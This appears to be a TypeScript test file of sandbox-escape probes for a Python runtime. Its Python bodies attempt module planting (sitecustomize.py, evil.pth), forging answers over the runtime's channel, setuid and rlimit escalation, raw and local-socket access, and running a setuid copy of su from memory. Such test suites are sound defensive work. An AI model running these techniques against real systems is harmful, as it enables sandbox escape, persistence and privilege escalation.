import { type Attack } from '../../attack.ts'

/** Python's own parts: what it was started from, and what of the runtime lies in its memory. */
export default [
  {
    name: 'in python: plants modules where other instances would import them',
    in: 'python',
    only: ['EROFS', 'EACCES', 'EPERM', 'ENOENT'],
    body: `
import json, sysconfig
places = {sysconfig.get_path("stdlib"), sysconfig.get_path("purelib"), os.path.dirname(json.__file__), "/var/runtime", "/var/task", "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"}


for place in places:
    for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", "__pycache__/json.pyc"):
        attempt(place + "/" + name, lambda: open(place + "/" + name, "w"))
for name in ("bootstrap.py", "serve.py", "channel.py"):
    attempt("write " + name, lambda: open("/var/runtime/" + name, "r+"))
    attempt("remove " + name, lambda: os.unlink("/var/runtime/" + name) is None)
    attempt("chmod " + name, lambda: os.chmod("/var/runtime/" + name, 0o777) is None)
`
  },
  {
    name: 'in python: takes the runtime’s channel over and answers for whoever comes next',
    in: 'python',
    settings: 'timeout=2',
    calls: 4,
    body: `
import gc, struct

for item in gc.get_objects():
    if type(item).__name__ == "Channel":
        for name in ("receive", "result", "error", "_send"):
            try:
                setattr(item, name, lambda *args: None)
            except AttributeError:
                setattr(type(item), name, lambda *args: None)

def answer(seq, text):
    return struct.pack("<IBBHI", 4 + len(text), 19, 0, 4, seq) + bytes(4) + text

os.write(3, answer(1, b'"mine"') + answer(2, b'"forged"') + answer(3, b'"forged"'))
while True:
    pass
`,
    verdict: ({ status, text }) => (status === 200 && text !== '"mine"' ? `another’s answer: ${text}` : undefined)
  },
  {
    name: 'in python: raises its limits, priority and rights',
    in: 'python',
    only: ['EPERM', 'EINVAL', 'EACCES', 'ValueError', 'ENOSYS', 'nothing'],
    body: `
import resource
for name in ("RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_RTPRIO", "RLIMIT_NICE", "RLIMIT_MEMLOCK"):
    attempt(name, lambda: resource.setrlimit(getattr(resource, name), (1 << 30, 1 << 30)) is None)
attempt("nice", lambda: os.nice(-20) < 0)
attempt("setuid", lambda: os.setuid(0) is None)
attempt("setgroups", lambda: os.setgroups([0]) is None)
attempt("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) is None)
attempt("root", lambda: os.chroot("/tmp") is None)
attempt("mknod", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)) is None)
attempt("owner", lambda: os.chown("/tmp", 0, 0) is None)
`
  },
  {
    name: 'in python: opens sockets to the machine and to the kernel',
    in: 'python',
    only: ['EPERM', 'EAFNOSUPPORT', 'EACCES', 'ECONNREFUSED', 'ENETUNREACH', 'ENOENT', 'EADDRNOTAVAIL', 'nothing'],
    body: `
for family, kind in (("AF_PACKET", "SOCK_RAW"), ("AF_INET", "SOCK_RAW"), ("AF_VSOCK", "SOCK_STREAM"), ("AF_ALG", "SOCK_SEQPACKET"), ("AF_TIPC", "SOCK_STREAM"), ("AF_BLUETOOTH", "SOCK_STREAM"), ("AF_CAN", "SOCK_RAW")):
    if hasattr(socket, family):
        attempt(family, lambda: socket.socket(getattr(socket, family), getattr(socket, kind), 1 if kind == "SOCK_RAW" else 0))
for port in [facts["canary.port"], *facts["ports"].split(",")]:
    attempt("port " + port, lambda: socket.create_connection(("127.0.0.1", int(port)), 2).send(b"sandbox python"))

def unix(path):
    peer = socket.socket(socket.AF_UNIX)
    peer.connect(path)
    return peer.recv(100)

attempt("canary socket", lambda: unix(facts["canary.socket"]))
attempt("abstract socket", lambda: unix("\\0" + facts["canary.abstractSocket"]))
attempt("launcher", lambda: unix("/control/socket"))
`
  },
  {
    name: 'in python: runs programs that exist only in memory',
    in: 'python',
    only: ['ENOSYS', 'nothing', 'EPERM'],
    body: `
def nameless():
    fd = os.memfd_create("program")
    with open("/usr/bin/su", "rb") as program:
        os.write(fd, program.read())
    os.fchmod(fd, 0o6755)
    done = subprocess.run(["/proc/self/fd/%d" % fd, "-c", "id -u"], pass_fds=[fd], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=5)
    return done.stdout.strip() == b"0"

attempt("a setuid program", nameless)
attempt("capabilities", lambda: any(line.split()[1].strip("0") for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapInh", "CapAmb"))))
`
  }
] satisfies readonly Attack[]
